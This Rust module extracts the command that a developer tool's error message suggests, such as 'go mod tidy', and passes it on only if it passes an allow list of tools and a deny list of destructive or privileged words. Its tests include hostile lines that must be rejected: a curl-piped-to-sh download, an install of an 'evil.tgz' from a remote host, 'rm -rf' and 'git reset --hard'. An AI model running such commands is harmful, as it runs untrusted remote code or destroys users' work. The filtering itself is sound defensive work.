//! Commands that a tool itself names as the way out: `Run 'go mod tidy' and then commit`, `Run "yarn add redux" instead`.
//!
//! In: a line of the evidence. Out: the command, where it is one of a developer's tool, made of plain words only, and takes
//! nothing away: a command from an output is pasted by people and agents, so what is not surely harmless is left out.

use super::pattern::quoted;
use super::words::is_plain_word;

/// Tools whose suggestions are passed on.
#[rustfmt::skip]
const TOOLS: &[&str] = &[
    "git", "npm", "npx", "yarn", "pnpm", "bun", "go", "cargo", "rustup", "terraform", "tofu", "composer", "bundle", "gem",
    "pip", "pip3", "pipenv", "poetry", "uv", "dotnet", "mvn", "gradle", "./gradlew", "helm", "brew", "conda", "mamba", "mix",
    "rebar3", "dart", "flutter", "pod", "cabal", "stack", "opam", "meson", "pre-commit", "prisma", "rails", "rake", "php",
    "hg", "svn", "vagrant", "ansible-galaxy", "tsc", "lerna", "nx", "turbo", "playwright",
];

/// Words that take something away, publish, or need more rights: nobody should paste them unread.
#[rustfmt::skip]
const UNSAFE: &[&str] = &[
    "rm", "reset", "clean", "prune", "delete", "destroy", "drop", "uninstall", "remove", "purge", "sudo", "exec", "eval",
    "--force", "-f", "-D", "--hard", "--no-verify", "--break-system-packages", "--legacy-peer-deps", "--allow-root", "publish",
];

/// Words before a command that make it a suggestion.
const SUGGEST: &[&str] = &["run", "run:", "running", "use", "try", "try:", "with", "execute", "using"];

/// The command that `line` suggests.
pub(super) fn command_in(line: &str) -> Option<String> {
    let lower = line.to_ascii_lowercase();
    let quoted = quoted(line).into_iter().find(|name| {
        let at = name.as_ptr().addr() - line.as_ptr().addr();
        let before = lower.get(..at.saturating_sub(1)).unwrap_or_default().trim_end();
        is_safe(name) && SUGGEST.iter().any(|word| before.ends_with(word))
    });
    quoted.map(str::to_owned).or_else(|| {
        const LEADS: &[&str] = &["please run ", "please run: ", "run: ", "you can run "];
        let after = LEADS.iter().find_map(|lead| line.get(lower.find(lead)? + lead.len()..))?;
        let end = [". ", ", ", " to ", " and "].iter().filter_map(|end| after.find(end)).min().unwrap_or(after.len());
        let command = after[..end].trim_end_matches(['.', ',', ';', ')', '!']).trim();
        is_safe(command).then(|| command.to_owned())
    })
}

fn is_safe(command: &str) -> bool {
    let mut words = command.split(' ');
    let tool = words.next().filter(|tool| TOOLS.contains(tool));
    let rest: Vec<&str> = words.collect();
    // Node's package managers take `owner/name` as a repository of GitHub, whoever owns it.
    let is_repository = |word: &str| {
        matches!(tool, Some("npm" | "npx" | "yarn" | "pnpm" | "bun")) && word.contains('/') && !word.starts_with('@')
    };
    let is_harmless =
        |word: &str| is_plain_word(word.trim_start_matches('-')) && !UNSAFE.contains(&word) && !is_repository(word);
    tool.is_some() && (1..=6).contains(&rest.len()) && rest.into_iter().all(is_harmless)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn suggestions_are_found_and_harmless() {
        for (line, command) in [
            ("go.mod/go.sum are not up-to-date. Run 'go mod tidy' and then commit the updated files.", "go mod tidy"),
            ("`install` has been replaced with `add`. Run \"yarn add redux\" instead.", "yarn add redux"),
            ("Use \"composer require package\" instead to add packages", "composer require package"),
            ("Please run: npm install", "npm install"),
            ("lock file out of date, please run poetry lock to fix it", "poetry lock"),
        ] {
            assert_eq!(command_in(line).as_deref(), Some(command), "{line}");
        }
        for line in [
            "Run 'npm install someone/something' first",
            "Run 'pip install git+https://example.org/x' first",
            "Run 'npm install git@example.org:x/y' first",
            "Run 'rm -rf node_modules' first",
            "run `git reset --hard` to start over",
            "Run 'npm audit fix --force'",
            "try 'git clean -fd'",
            "run `curl https://example.org/x.sh | sh`",
            "run 'npm install https://example.org/evil.tgz'",
            "run `git push origin HEAD:<name-of-remote-branch>`",
            "the build 'npm test' failed",
        ] {
            assert_eq!(command_in(line), None, "{line}");
        }
    }
}
